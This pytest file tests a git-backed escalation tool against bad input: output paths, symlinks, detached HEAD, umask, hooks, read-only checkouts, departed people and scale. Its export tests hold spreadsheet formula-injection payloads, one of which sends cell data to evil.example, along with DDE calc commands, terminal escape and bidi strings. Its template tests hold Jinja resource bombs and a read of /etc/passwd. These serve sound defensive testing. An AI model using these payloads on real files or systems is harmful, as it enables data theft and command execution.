"""Issue 15, cases 8 to 13: each ends in a clear refusal or a correct result, exit 0/1/2 (never 70),
no traceback, nothing lost. Each case counts in the bad-input figure."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.reliability.figures import tally
from tests.support import T0, Repo, executable, git


def _clean(result_output: str, code: int) -> bool:
    return "Traceback" not in result_output and code in (0, 1, 2)


# -- 8: output paths ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "target", "code", "words"),
    [
        ("report", "a-file", 2, "is a file: give a folder"),
        ("report", "/dev/null", 2, "not a folder"),
        ("report", "/proc/escmatrix/none", 1, "cannot make the folder"),
        ("schema", "a-file", 2, "is a file: give a folder"),
        ("schema", "/dev/null", 2, "not a folder"),
    ],
)
def test_output_paths_are_refused_in_one_sentence(
    tmp_repo: Repo, command: str, target: str, code: int, words: str, request: pytest.FixtureRequest
) -> None:
    existing = tmp_repo.path / "a-file"
    existing.write_text("keep me\n", encoding="utf-8")
    out = str(existing) if target == "a-file" else target
    args = (
        ["report", "--format", "html", "--out", out]
        if command == "report"
        else ["schema", "--out", out]
    )
    result = tmp_repo.cli(*args)
    ok = (
        result.exit_code == code
        and words in result.output
        and _clean(result.output, result.exit_code)
        and existing.read_text(encoding="utf-8") == "keep me\n"
    )
    tally(request, "bad input", f"out-path:{command}:{target}", ok)
    assert ok, result.output


def test_report_into_a_new_folder_still_works(tmp_repo: Repo) -> None:
    tmp_repo.open()
    result = tmp_repo.cli("report", "--format", "html", "--out", str(tmp_repo.path / "site" / "q4"))
    assert result.exit_code == 0, result.output
    assert (tmp_repo.path / "site" / "q4" / "index.html").is_file()


# -- 9: exports carry no control characters or formulas ----------------------------------------------

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "esc \x1b[31mred\x1b[0m",
    "osc8 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "bidi abc\u202edcba",
]


def test_csv_export_neutralises_formulas_and_controls(
    tmp_repo: Repo, request: pytest.FixtureRequest
) -> None:
    for title in HOSTILE_TITLES:
        tmp_repo.open(title)
    result = subprocess.run(
        [*executable(), "--repo", str(tmp_repo.path), "--now", T0, "list", "--format", "csv"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    titles = [r["title"] for r in rows]
    ok = len(titles) == len(HOSTILE_TITLES)
    for title in titles:
        ok = ok and not any(ch in title for ch in ("\x1b", "\u202e", "\x07"))
        ok = ok and not title.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert any(t.startswith("'=HYPERLINK") for t in titles), titles
    assert any("red" in t and "\\x1b" in t for t in titles), titles
    tally(request, "bad input", "csv-export", ok)
    assert ok, titles


def test_html_report_drops_bidi_overrides(tmp_repo: Repo, request: pytest.FixtureRequest) -> None:
    tmp_repo.open("bidi abc\u202edcba \u2066isolate\u2069")
    result = tmp_repo.cli("report", "--format", "html", "--out", str(tmp_repo.path / "site"))
    assert result.exit_code == 0, result.output
    page = (tmp_repo.path / "site" / "index.html").read_text(encoding="utf-8")
    ok = not any(ch in page for ch in ("\u202e", "\u2066", "\u2069"))
    tally(request, "bad input", "html-bidi", ok)
    assert ok


# -- 10: a symlinked issue folder --------------------------------------------------------------------


def test_symlinked_issue_folder_is_refused_by_validate(
    tmp_repo: Repo, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    issue = tmp_repo.open()
    elsewhere = tmp_path / "outside"
    (tmp_repo.path / "issues" / issue).rename(elsewhere)
    (tmp_repo.path / "issues" / issue).symlink_to(elsewhere, target_is_directory=True)
    result = tmp_repo.cli("validate")
    ok = (
        result.exit_code == 1
        and f"issues/{issue}" in result.output
        and "symbolic link" in result.output
        and _clean(result.output, result.exit_code)
    )
    tally(request, "bad input", "symlinked-issue-folder", ok)
    assert ok, result.output


# -- 11: detached HEAD ---------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["comment", "sweep"])
def test_recording_on_a_detached_head_is_refused(
    tmp_repo: Repo, command: str, request: pytest.FixtureRequest
) -> None:
    issue = tmp_repo.open("Checkout fails", "product-defect", "sev1")
    tmp_repo.git("checkout", "-q", "--detach", "HEAD")
    before, files = tmp_repo.head(), sorted(tmp_repo.all_issue_paths())
    if command == "comment":
        result = tmp_repo.cli("comment", issue, "on a detached head")
    else:
        result = tmp_repo.cli("sweep", "--apply", now="2026-03-03T09:00:00Z")
    ok = (
        result.exit_code == 1
        and "HEAD is detached" in result.output
        and "git switch" in result.output
        and _clean(result.output, result.exit_code)
        and tmp_repo.head() == before
        and sorted(tmp_repo.all_issue_paths()) == files
        and tmp_repo.status() == ""
    )
    tally(request, "bad input", f"detached-head:{command}", ok)
    assert ok, result.output


# -- 12: the umask ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o002, 0o022, 0o077])
def test_new_event_files_follow_the_umask(tmp_repo: Repo, umask: int) -> None:
    def set_umask() -> None:
        os.umask(umask)

    done = subprocess.run(
        [
            *executable(),
            "--repo",
            str(tmp_repo.path),
            "--now",
            T0,
            "open",
            "-t",
            "shared clone",
            "-c",
            "product-defect",
            "-s",
            "sev3",
        ],
        capture_output=True,
        text=True,
        preexec_fn=set_umask,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    (event,) = (tmp_repo.path / "issues").glob("*/*-opened.yaml")
    assert stat.S_IMODE(event.stat().st_mode) == 0o666 & ~umask


# -- 13: a commit-msg hook that drops trailers ------------------------------------------------------------


def test_log_survives_a_hook_that_drops_trailers(
    tmp_repo: Repo, request: pytest.FixtureRequest
) -> None:
    issue = tmp_repo.open()
    hook = tmp_repo.path / ".git" / "hooks" / "commit-msg"
    hook.write_text('#!/bin/sh\nhead -n 1 "$1" > "$1.tmp" && mv "$1.tmp" "$1"\n', encoding="utf-8")
    hook.chmod(0o755)
    tmp_repo.ok("comment", issue, "after the hook")
    assert "Escmatrix-Action" not in git(tmp_repo.path, "log", "-1", "--format=%B")
    result = tmp_repo.cli("log", issue)
    data = tmp_repo.json("log", issue)
    last = data[-1]
    ok = (
        result.exit_code == 0
        and last["action"] == "commented"
        and last["actor"] == "alex"
        and "no escmatrix trailers" in last["note"]
        and "no escmatrix trailers" in result.output
    )
    tally(request, "bad input", "trailers-dropped", ok)
    assert ok, result.output


# -- 7: times and durations out of range ------------------------------------------------------------


@pytest.mark.parametrize("at", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"])
def test_times_out_of_range_are_refused_with_bounds(
    tmp_repo: Repo, at: str, request: pytest.FixtureRequest
) -> None:
    route = tmp_repo.cli("route", "-c", "product-defect", "-s", "sev2", "--at", at)
    listed = tmp_repo.cli("list", now=at)
    ok = all(
        r.exit_code == 2 and "out of range" in r.output and "1970-01-01" in r.output
        for r in (route, listed)
    ) and all(_clean(r.output, r.exit_code) for r in (route, listed))
    tally(request, "bad input", f"time-out-of-range:{at[:4]}", ok)
    assert ok, route.output + listed.output


@pytest.mark.parametrize("duration", ["99999999999w", "9999999w"])
def test_durations_out_of_range_are_refused_with_bounds(
    tmp_repo: Repo, duration: str, request: pytest.FixtureRequest
) -> None:
    tmp_repo.edit("matrix/ladder.yaml", "response_time: ", f"response_time: {duration} #", 1)
    line = tmp_repo.line_of("matrix/ladder.yaml", duration)
    result = tmp_repo.cli("validate")
    ok = (
        result.exit_code == 1
        and "matrix/ladder.yaml" in result.output
        and f"{line}:" in result.output
        and "longest duration" in result.output
        and _clean(result.output, result.exit_code)
    )
    tally(request, "bad input", f"duration-out-of-range:{len(duration)}", ok)
    assert ok, result.output


# -- 4: templates cannot exhaust the machine ------------------------------------------------------------

TEMPLATE_BOMBS = {
    "huge-power": "Hello {{ customer_name }}\n{{ 2**(2**33) }}\n",
    "nested-loops": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n",
    "huge-string": "line one\n{{ ('x'*100000000)*30 }}\n",
    "include-outside": "{% include '../../matrix/people.yaml' %}\n",
    "import-absolute": "{% import '/etc/passwd' as p %}\n",
    "huge-output": "{% for i in range(90000) %}{{ 'y' * 50 }}{% endfor %}\n",
}


@pytest.mark.parametrize("case", sorted(TEMPLATE_BOMBS))
def test_a_template_cannot_exhaust_the_machine(
    tmp_repo: Repo, case: str, request: pytest.FixtureRequest
) -> None:
    issue = tmp_repo.open("Checkout fails")
    folder = tmp_repo.path / "playbooks" / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "executive.md.j2").write_text(TEMPLATE_BOMBS[case], encoding="utf-8")
    done = subprocess.run(
        [
            *executable(),
            "--repo",
            str(tmp_repo.path),
            "--now",
            T0,
            "comms",
            "draft",
            issue,
            "--audience",
            "executive",
        ],
        capture_output=True,
        text=True,
        timeout=60,  # unbounded, these ran for minutes or took gigabytes
        check=False,
    )
    out = done.stdout + done.stderr
    ok = (
        done.returncode == 1
        and "playbooks/templates/executive.md.j2" in out
        and "Traceback" not in out
        and "passwd" not in done.stdout
    )
    tally(request, "bad input", f"template:{case}", ok)
    assert ok, out[-2000:]


# -- 3: a read-only checkout ----------------------------------------------------------------------------


def _make_read_only(repo: Repo) -> list[Path]:
    """Make .git and issues/ unwritable, even for root: the immutable attribute (`chattr +i`)
    where the file system has it, else a file where escmatrix would make its .git folder."""
    paths = [repo.path / ".git", repo.path / "issues", *(repo.path / "issues").iterdir()]
    done = subprocess.run(["chattr", "+i", *map(str, paths)], capture_output=True, check=False)
    if done.returncode == 0:
        return paths
    subprocess.run(["chattr", "-i", *map(str, paths)], capture_output=True, check=False)
    (repo.path / ".git" / "escmatrix").write_text("not a folder\n", encoding="utf-8")
    return []


def test_a_read_only_checkout_reads_and_refuses_writes_in_one_sentence(
    tmp_repo: Repo, request: pytest.FixtureRequest
) -> None:
    issue = tmp_repo.open("Checkout fails", "product-defect", "sev1")
    shutil.rmtree(tmp_repo.path / ".git" / "escmatrix", ignore_errors=True)
    before = tmp_repo.head()
    locked = _make_read_only(tmp_repo)
    try:
        reads = {
            args[0]: subprocess.run(
                [
                    *executable(),
                    "--repo",
                    str(tmp_repo.path),
                    "--now",
                    "2026-03-03T09:00:00Z",
                    *args,
                ],
                capture_output=True,
                text=True,
                check=False,
            )
            for args in (["list"], ["show", issue], ["sweep"], ["report"], ["dashboard"])
        }
        write = tmp_repo.cli("comment", issue, "on a read-only mount")
    finally:
        if locked:
            subprocess.run(["chattr", "-i", *map(str, locked)], check=True)
    ok = all(r.returncode == 0 and "Traceback" not in r.stderr for r in reads.values())
    ok = ok and issue[:4] in reads["list"].stdout
    ok = ok and write.exit_code == 1 and "this checkout cannot be written" in write.output
    ok = ok and tmp_repo.head() == before and "Traceback" not in write.output
    tally(request, "bad input", "read-only-checkout", ok)
    assert ok, {k: (r.returncode, r.stderr[-300:]) for k, r in reads.items()} | {
        "write": write.output
    }


# -- 1: a severity removed from the matrix ----------------------------------------------------------------


def _drop_severity(repo: Repo, severity: str) -> None:
    for name, key in (("severity.yaml", "severities"), ("comms.yaml", "by_severity")):
        path = repo.path / "matrix" / name
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        if isinstance(data[key], list):
            data[key] = [s for s in data[key] if s["id"] != severity]
        else:
            data[key].pop(severity, None)
        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    repo.git("commit", "-qam", f"drop {severity}")


def test_a_removed_severity_is_skipped_by_the_sweep_and_can_be_rerated(
    tmp_repo: Repo, request: pytest.FixtureRequest
) -> None:
    low = tmp_repo.open("Low one", "product-defect", "sev3")
    high = tmp_repo.open("High one", "product-defect", "sev1")
    _drop_severity(tmp_repo, "sev3")
    later = "2026-03-04T09:00:00Z"
    swept = tmp_repo.cli("sweep", "--apply", now=later)
    validated = tmp_repo.cli("validate")
    refused = tmp_repo.cli("route", low, "--severity", "sev2", now=later)
    rerated = tmp_repo.cli(
        "route", low, "--severity", "sev2", "--reason", "the customer escalated", now=later
    )
    ok = (
        swept.exit_code == 0
        and "skipped: the matrix no longer has severity 'sev3'" in swept.output
        and tmp_repo.show(high, now=later)["tier"] != "frontline"  # the others still escalate
        and validated.exit_code == 1
        and f"issue {low}: unknown severity 'sev3'" in validated.output
        and refused.exit_code == 2
        and "--reason" in refused.output
        and rerated.exit_code == 0
        and all(_clean(r.output, r.exit_code) for r in (swept, validated, refused, rerated))
    )
    state = tmp_repo.show(low, now=later)
    ok = ok and state["severity"] == "sev2"
    (event,) = [p for p in tmp_repo.event_files(low) if p.endswith("-rerouted.yaml")]
    data = yaml.safe_load((tmp_repo.path / event).read_text(encoding="utf-8"))
    ok = ok and data["severity"] == "sev2" and data["reason"] == "the customer escalated"
    tally(request, "bad input", "removed-severity", ok)
    assert ok, swept.output + validated.output + refused.output + rerated.output


# -- 2: people leave --------------------------------------------------------------------------------------


def test_a_person_who_left_keeps_history_but_no_work(
    tmp_repo: Repo, request: pytest.FixtureRequest
) -> None:
    issue = tmp_repo.open("Checkout fails", "product-defect", "sev2")
    owner = tmp_repo.show(issue)["owner"]
    path = tmp_repo.path / "matrix" / "people.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for person in data["people"]:
        if person["id"] == owner:
            person["left"] = "2026-03-02"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    tmp_repo.git("commit", "-qam", f"{owner} left")
    later = "2026-03-02T12:00:00Z"
    validated = tmp_repo.cli("validate", now=later)
    tmp_repo.identify(owner)
    acted = tmp_repo.cli("comment", issue, "still here?", now=later)
    tmp_repo.identify("alex" if owner != "alex" else "sam")
    listed = tmp_repo.cli("list", now=later)
    shown = tmp_repo.cli("show", issue, now=later)
    swept = tmp_repo.cli("sweep", "--apply", now=later)
    new_owner = tmp_repo.show(issue, now=later)["owner"]
    ok = (
        validated.exit_code == 1
        and "departed-person" in validated.output
        and f"its owner {owner} left on 2026-03-02" in validated.output
        and f"owner {owner!r} left on 2026-03-02" in validated.output  # the playbooks' owners
        and "unknown actor" not in validated.output  # history still knows them
        and acted.exit_code == 1
        and "can no longer act" in acted.output
        and f"{owner} (left)" in listed.output
        and "left on 2026-03-02" in shown.output
        and swept.exit_code == 0
        and f"reassign {owner} →" in swept.output
        and new_owner != owner
        and all(_clean(r.output, r.exit_code) for r in (validated, acted, swept))
    )
    tally(request, "bad input", "departed-person", ok)
    assert ok, validated.output + acted.output + swept.output + new_owner


# -- 14: drills at scale ------------------------------------------------------------------------------


def test_a_drill_of_hundreds_of_issues_finishes_and_accounts_for_every_one(
    tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """A 200-issue drill on the example matrix (the benchmark's generator, benchmarks/
    drill_scale.py) completes (it was quadratic: 3,000 issues did not finish in 120 s) and its
    result names every issue. Speed itself is measured by the benchmark, not here."""
    import sys

    root = Path(__file__).resolve().parent.parent
    sys.path.insert(0, str(root / "benchmarks"))
    try:
        from drill_scale import scenario
    finally:
        sys.path.remove(str(root / "benchmarks"))
    path = tmp_path / "scale.yaml"
    path.write_text(yaml.safe_dump(scenario(200), sort_keys=False), encoding="utf-8")
    done = subprocess.run(
        [*executable(), "--repo", str(root), "drill", str(path), "--format", "json"],
        capture_output=True,
        text=True,
        timeout=300,  # a hang guard: it takes a few seconds
        check=False,
    )
    data = json.loads(done.stdout) if done.stdout.startswith("{") else {}
    ok = (
        done.returncode in (0, 1)
        and "Traceback" not in done.stderr
        and len(data.get("issues", {})) == 200
        and len({d["issue"] for d in data.get("deadlines", [])}) == 200
    )
    tally(request, "bad input", "drill-at-scale", ok)
    assert ok, (done.returncode, done.stderr[-500:], list(data)[:10])
